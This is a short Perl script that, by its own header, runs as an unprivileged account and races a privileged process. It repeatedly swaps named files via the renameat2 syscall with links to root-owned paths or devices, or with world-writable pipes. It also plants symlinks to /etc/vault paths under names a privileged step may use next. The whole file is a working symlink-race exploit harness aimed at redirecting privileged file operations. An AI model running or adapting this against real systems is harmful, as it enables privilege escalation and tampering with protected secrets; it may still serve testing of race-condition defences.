# exchange.pl FOLDER BAIT,BAIT... NAME...: exchanges each name with a link to a bait (a path of root's or a device),
# or with a pipe ("pipe"), until FOLDER/.on is gone, and prints how often. To be run as an account without rights.
# renameat2(2) is by number, for there is no command for it in coreutils.
use strict;
my ($folder, $baits, @names) = @ARGV;
my @baits = split /,/, $baits;
my %number = (x86_64 => 316, aarch64 => 276);
chomp(my $machine = `uname -m`);
my $renameat2 = $number{$machine} or die "no number of renameat2 for $machine";
my ($done, $turns) = (0, 0);
while (-e "$folder/.on") {
    my $fresh = $turns % 100 == 0;
    my $bait = $baits[int($turns++ / 100) % @baits];
    for my $name (@names) {
        my ($here, $there) = ("$folder/$name", "$folder/.other $name");
        if ($fresh) {
            # One of the two is the bait of before.
            for my $each ($there, $here) {
                if (-l $each or -p $each) { unlink $each; last; }
            }
            if ($bait eq "pipe") { system "mkfifo", "-m", "666", $there; } else { symlink $bait, $there; }
            # Names that a step may be about to use.
            symlink "/etc/vault/open", "$here.reconcile-new";
            symlink "/etc/vault/new", "$here.pub" if $name eq "id";
        }
        $done++ if syscall($renameat2, -100, $here, -100, $there, 2) == 0;
        symlink "/etc/vault/open", $here unless -l $here or -e $here;
    }
}
print "$done\n";
